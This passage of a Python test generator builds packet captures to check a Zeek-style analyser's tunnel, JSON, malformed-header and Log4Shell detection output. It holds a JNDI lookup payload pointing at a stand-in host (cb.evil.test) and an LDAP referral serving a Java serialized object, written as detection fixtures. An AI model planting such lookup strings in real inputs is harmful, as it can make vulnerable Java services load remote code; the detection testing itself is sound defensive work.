              {"log": "tunnel", "where": {"action": "Tunnel::DISCOVER"},
               "fields": dict(tunnel_id, ts=ts(outer[0].t_us)), "uid_of": outer_where},
              {"log": "tunnel", "where": {"action": "Tunnel::CLOSE"},
               "fields": dict(tunnel_id, ts=ts(outer[-1].t_us)), "uid_of": outer_where}]
    fr = [(e.t_us, 0, eth(e.l3, True)) for e in outer]
    simple(name, desc, outer, checks, frames=fr, absent=())


@case
def vxlan():
    tunnel_case("vxlan", 38, 4789, lambda: VXLAN(vni=42, flags=0x08),
                "AWS-mirroring style: every packet of an inner TCP session (both directions) inside "
                "VXLAN from one VTEP to UDP 4789. Zeek logs the outer UDP connection (S0, D, bytes = "
                "UDP payloads; service left unchecked) and the inner session (SF) whose "
                "tunnel_parents is the outer uid; tunnel.log: DISCOVER at the first packet (the "
                "inner connection's new_connection), CLOSE at the last (end of input)")


@case
def geneve():
    tunnel_case("geneve", 39, 6081, lambda: GENEVE(vni=42, proto=0x6558),
                "the same inner session in GENEVE (UDP 6081, protocol 0x6558 Ethernet): outer UDP "
                "row S0 and inner SF row with tunnel_parents = outer uid; tunnel.log DISCOVER and "
                "CLOSE rows with Tunnel::GENEVE")


@case
def vxlan_two_tunnels():
    """Zeek's core.tunnels.vxlan in shape: pings whose requests travel in one VXLAN tunnel and
    whose replies come back in another (Linux's vxlan device picks the outer source port from the
    inner flow's hash, per direction), plus two tunnels that carry only ARP."""
    from scapy.layers.l2 import ARP
    t = base(92)
    a, b = "192.168.56.11", "192.168.56.12"
    ta, tb, tc, td = (a, 48134, b), (b, 38071, a), (b, 40908, a), (a, 39924, b)

    def wrap(tun, l2):
        return IP(src=tun[0], dst=tun[2], id=1, ttl=64) / UDP(sport=tun[1], dport=4789) / \
            VXLAN(vni=123, flags=0x08) / l2

    outer = []
    for k in range(4):
        req = Ether(src=MAC_C, dst=MAC_S) / IP(src="10.0.0.1", dst="10.0.0.2", id=k + 1, ttl=64) / \
            ICMP(type=8, id=7, seq=k + 1) / Raw(b"x" * 56)
        rep = Ether(src=MAC_S, dst=MAC_C) / IP(src="10.0.0.2", dst="10.0.0.1", id=k + 100, ttl=64) / \
            ICMP(type=0, id=7, seq=k + 1) / Raw(b"x" * 56)
        outer.append(Ev(t + k * 1000000, IP(bytes(wrap(ta, req))), True))
        outer.append(Ev(t + k * 1000000 + 338, IP(bytes(wrap(tb, rep))), True))
        if k == 1:
            arp = Ether(src=MAC_S, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, psrc="10.0.0.2", pdst="10.0.0.1")
            outer.append(Ev(t + k * 1000000 + 500000, IP(bytes(wrap(tc, arp))), True))
            arp = Ether(src=MAC_C, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, psrc="10.0.0.1", pdst="10.0.0.2")
            outer.append(Ev(t + k * 1000000 + 600000, IP(bytes(wrap(td, arp))), True))
    last = outer[-1].t_us

    def where(tun):
        return {"log": "conn", "where": {"id.orig_h": tun[0], "id.orig_p": str(tun[1])}}

    def row(tun, action, when):
        return {"log": "tunnel", "where": {"id.orig_p": str(tun[1]), "action": action},
                "fields": {"ts": ts(when), "id.orig_h": tun[0], "id.orig_p": str(tun[1]), "id.resp_h": tun[2],
                           "id.resp_p": "4789", "tunnel_type": "Tunnel::VXLAN", "action": action},
                "uid_of": where(tun)}

    checks = [{"log": "conn", "count": 5},
              {"log": "conn", "where": {"proto": "udp"}, "count": 4},
              {"log": "conn", "where": {"proto": "icmp"}, "tunnel_parent_of": [where(ta), where(tb)]},
              {"log": "tunnel", "count": 4},
              row(ta, "Tunnel::DISCOVER", t), row(tb, "Tunnel::DISCOVER", t + 338),
              row(ta, "Tunnel::CLOSE", last), row(tb, "Tunnel::CLOSE", last),
              {"log": "tunnel", "where": {"id.orig_p": "40908"}, "count": 0},
              {"log": "tunnel", "where": {"id.orig_p": "39924"}, "count": 0}]
    fr = [(e.t_us, 0, eth(e.l3, True)) for e in outer]
    simple("vxlan-two-tunnels", "the shape of Zeek's core.tunnels.vxlan: requests of an inner ping in "
           "one VXLAN tunnel, replies in another, two more tunnels carrying only ARP. Zeek's tunnel.log: "
           "DISCOVER for the first tunnel when the inner connection is new, for the second when the "
           "connection's encapsulation changes (tunnel_changed), CLOSE for both when their "
           "connections end (here at the end of input, both at the last packet's time); nothing for "
           "the ARP-only tunnels, which carry no connection. The inner connection's tunnel_parents "
           "holds both outer uids", outer, checks, frames=fr, absent=())


@case
def two_files():
    name = "two-files"
    e1 = [Ev(base(40), tcp("10.0.0.1", "10.0.0.2", 40300, 5555, "S", 1000), True)]
    e2 = [Ev(base(40) + 10 * 1000000, udp("10.0.0.1", "10.0.0.2", 40301, 33333, b"Q" * 12), True)]
    r1 = conn_row(e1, ("10.0.0.1", 40300), ("10.0.0.2", 5555), "tcp", 6, "S", "S0", "-", "-", "-")
    r2 = conn_row(e2, ("10.0.0.1", 40301), ("10.0.0.2", 33333), "udp", 17, "D", "S0", "-", "-", "-")
    cj = {"description": "two pcaps on one command line are read in order into one set of logs",
          "pcap": ["first.pcap", "second.pcap"], "args": [], "exit": 0, "logs_absent": ["weird"],
          "checks": [{"log": "conn", "count": 2}, conn_check(r1), conn_check(r2)]}
    emit(name, cj, [("first.pcap", lambda p: write_pcap(p, 1, frames_eth(e1))),
                    ("second.pcap", lambda p: write_pcap(p, 1, frames_eth(e2)))])


@case
def json_format():
    t = base(41) + 250000
    evs = [Ev(t, udp("10.0.0.1", "10.0.0.2", 44441, 33333, b"Q" * 12), True)]
    want = {"ts": t / 1e6, "id.orig_h": "10.0.0.1", "id.orig_p": 44441, "id.resp_h": "10.0.0.2",
            "id.resp_p": 33333, "proto": "udp", "conn_state": "S0", "local_orig": True,
            "local_resp": True, "missed_bytes": 0, "history": "D", "orig_pkts": 1,
            "orig_ip_bytes": 40, "resp_pkts": 0, "resp_ip_bytes": 0, "ip_proto": 17}
    simple("json-format", "--format json: one object per line, ts an epoch number, counts and ports "
           "JSON integers, bools true/false, unset optionals (duration, bytes, service, "
           "tunnel_parents) omitted", evs,
           [{"log": "conn", "count": 1},
            {"log": "conn", "where": {"id.orig_p": 44441}, "fields": want,
             "absent": ["duration", "orig_bytes", "resp_bytes", "service", "tunnel_parents"]}],
           args=["--format", "json"])


def raw_eth(ip_bytes):
    return bytes(Ether(src=MAC_C, dst=MAC_S, type=0x0800)) + ip_bytes


@case
def malformed_ip():
    t = base(42)
    good = IP(bytes(IP(src="10.0.0.1", dst="10.0.0.2", id=9) / TCP(sport=1, dport=2, flags="S")))
    b = bytearray(bytes(good))
    short_ihl = bytearray(b)
    short_ihl[0] = 0x43                              # IHL 3 = 12 bytes
    long_ihl = bytearray(b)
    long_ihl[0] = 0x4f                               # IHL 15 = 60 bytes > total length 40
    long_total = bytearray(b)
    long_total[2:4] = struct.pack(">H", 200)        # claims 200 bytes, 40 on the wire
    ok = udp("10.0.0.1", "10.0.0.2", 44442, 33333, b"Q" * 12)
    fr = [(t, 0, raw_eth(bytes(b[:12]))),
          (t + 1000, 0, raw_eth(bytes(short_ihl))),
          (t + 2000, 0, raw_eth(bytes(long_ihl))),
          (t + 3000, 0, raw_eth(bytes(long_total))),
          (t + 4000, 0, eth(ok))]
    evs = [Ev(t + 4000, ok, True)]
    row = conn_row(evs, ("10.0.0.1", 44442), ("10.0.0.2", 33333), "udp", 17, "D", "S0", "-", "-", "-")
    checks = [{"log": "conn", "count": 1}, conn_check(row)]
    for name in ("truncated_IP", "IPv4_min_header_size", "invalid_IP_header_size", "truncated_IP_len"):
        checks.append({"log": "weird", "where": {"name": name}, "count": 1})
    simple("malformed-ip", "12 bytes of IPv4 (truncated_IP), IHL 3 (IPv4_min_header_size), IHL 15 "
           "beyond the total length (invalid_IP_header_size), total length beyond the frame "
           "(truncated_IP_len): one weird each, names as Zeek's IPAnalyzer spells them, no "
           "connection from any of them, and the good datagram after them is still logged",
           evs, checks, frames=fr, absent=())


@case
def malformed_tcp():
    t = base(43)
    p1 = bytearray(bytes(IP(src="10.0.0.1", dst="10.0.0.2", id=1) / TCP(sport=40400, dport=5555, flags="S")))
    p1[20 + 12] = 0xf0                              # data offset 15 = 60 bytes, only 20 present
    p2 = bytearray(bytes(IP(src="10.0.0.1", dst="10.0.0.2", id=2) / TCP(sport=40401, dport=5555, flags="S")))
    p2[20 + 12] = 0x20                              # data offset 2 = 8 bytes < 20
    ok = udp("10.0.0.1", "10.0.0.2", 44443, 33333, b"Q" * 12)
    fr = [(t, 0, raw_eth(bytes(p1))), (t + 1000, 0, raw_eth(bytes(p2))), (t + 2000, 0, eth(ok))]
    evs = [Ev(t + 2000, ok, True)]
    row = conn_row(evs, ("10.0.0.1", 44443), ("10.0.0.2", 33333), "udp", 17, "D", "S0", "-", "-", "-")
    checks = [conn_check(row),
              {"log": "weird", "where": {"name": "truncated_header"}, "count": 1},
              {"log": "weird", "where": {"name": "truncated_header"},
               "fields": {"id.orig_p": "40400", "id.resp_p": "5555"}},
              {"log": "weird", "where": {"name": "bad_TCP_header_len"}, "count": 1},
              {"log": "weird", "where": {"name": "bad_TCP_header_len"},
               "fields": {"id.orig_p": "40401", "id.resp_p": "5555"}}]
    simple("malformed-tcp", "TCP data offset beyond the segment (truncated_header) and below 5 "
           "(bad_TCP_header_len): Zeek's TCP analyzer raises both as connection weirds (the "
           "connection exists; its conn rows are not checked here) and goes on",
           evs, checks, frames=fr, absent=())


def ber(tag, body):
    n = len(body)
    if n < 0x80:
        return bytes([tag, n]) + body
    if n < 0x100:
        return bytes([tag, 0x81, n]) + body
    return bytes([tag, 0x82, n >> 8, n & 0xff]) + body


def ldap_msg(msgid, op):
    return ber(0x30, ber(0x02, bytes([msgid])) + op)


def ldap_attr(name, *values):
    return ber(0x30, ber(0x04, name) + ber(0x31, b"".join(ber(0x04, v) for v in values)))


@case
def ldap_java_serialized():
    """A JNDI referral over LDAP on 443 whose entry carries a serialized object."""
    c, s, cp, sp = "10.0.0.5", "192.0.2.66", 41000, 443
    o, r = (c, s, cp, sp), (s, c, sp, cp)
    bind = ldap_msg(1, ber(0x60, ber(0x02, b"\x03") + ber(0x04, b"") + bytes([0x80, 0])))
    bind_ok = ldap_msg(1, ber(0x61, ber(0x0a, b"\x00") + ber(0x04, b"") + ber(0x04, b"")))
    search = ldap_msg(2, ber(0x63, ber(0x04, b"cn=Exploit") + ber(0x0a, b"\x00") + ber(0x0a, b"\x03") +
                            ber(0x02, b"\x00") + ber(0x02, b"\x00") + ber(0x01, b"\x00") +
                            bytes([0x87, 11]) + b"objectClass" + ber(0x30, b"")))
    serialized = (b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F"
                  b"\x00\nloadFactorI\x00\tthresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10"
                  b"\x00\x00\x00\x00x")
    entry = ldap_msg(2, ber(0x64, ber(0x04, b"cn=Exploit") + ber(0x30,
                     ldap_attr(b"javaClassName", b"java.util.HashMap") +
                     ldap_attr(b"javaSerializedData", serialized) +
                     ldap_attr(b"objectClass", b"javaContainer", b"javaSerializedObject"))))
    done = ldap_msg(2, ber(0x65, ber(0x0a, b"\x00") + ber(0x04, b"") + ber(0x04, b"")))
    so, sr = 1001, 5001
    mid = []
    for data, orig in ((bind, True), (bind_ok, False), (search, True), (entry + done, False)):
        if orig:
            mid.append((tcp(*o, "PA", so, sr, data), True))
            so += len(data)
        else:
            mid.append((tcp(*r, "PA", sr, so, data), False))
            sr += len(data)
    evs = data_session(base(90), c, s, cp, sp, mid, so, sr)
    import hashlib
    checks = [{"log": "conn", "fields": {"service": "ldap_tcp", "id.resp_p": "443"}},
              {"log": "ldap_search", "fields": {"base_object": "cn=Exploit", "result_count": "1"}},
              {"log": "notice", "where": {"note": "CVE_2021_44228::LOG4J_LDAP_JAVA"}, "count": 1},
              {"log": "notice", "where": {"note": "CVE_2021_44228::JAVA_SERIALIZED_DOWNLOAD"},
               "fields": {"sub": "proto=ldap, class=java.util.HashMap", "id.resp_p": "443"}},
              {"log": "files", "fields": {"source": "LDAP", "mime_type": "application/x-java-serialized-object",
                                         "seen_bytes": str(len(serialized)), "is_orig": "F",
                                         "sha256": hashlib.sha256(serialized).hexdigest()}}]
    simple("ldap-java-serialized", "a JNDI referral over LDAP on 443 whose search entry carries "
           "javaSerializedData: the entry is a Java-over-LDAP notice, the serialized object a "
           "JAVA_SERIALIZED_DOWNLOAD notice and a files.log row (source LDAP, typed by content, "
           "hashed); no lookup attempt preceded it, so it opens its own incident", evs, checks)


@case
def dns_jndi_name():
    """A lookup string inside a DNS question name."""
    from scapy.layers.dns import DNS, DNSQR
    c, s, cp, sp = "10.0.0.5", "10.0.0.2", 5353, 53
    q = bytes(DNS(id=7, rd=1, qd=DNSQR(qname="${jndi:ldap://cb.evil.test/a}.example.com")))
    evs = [Ev(base(91), udp(c, s, cp, sp, q), True)]
    checks = [{"log": "notice", "count": 1},
              {"log": "notice", "fields": {"note": "CVE_2021_44228::LOG4J_ATTEMPT_PAYLOAD", "id.resp_p": "53"}},
              {"log": "dns", "fields": {"query": "${jndi:ldap://cb.evil.test/a}.example.com"}}]
    simple("dns-jndi-name", "a JNDI lookup inside a DNS question name (a resolver or a Java service may "
           "log it): LOG4J_ATTEMPT_PAYLOAD with proto dns and the decoded host", evs, checks)


def main():
    names = sys.argv[1:] or sorted(CASES)
    for n in names:
        CASES[n]()
        print("wrote", n)


if __name__ == "__main__":
    main()
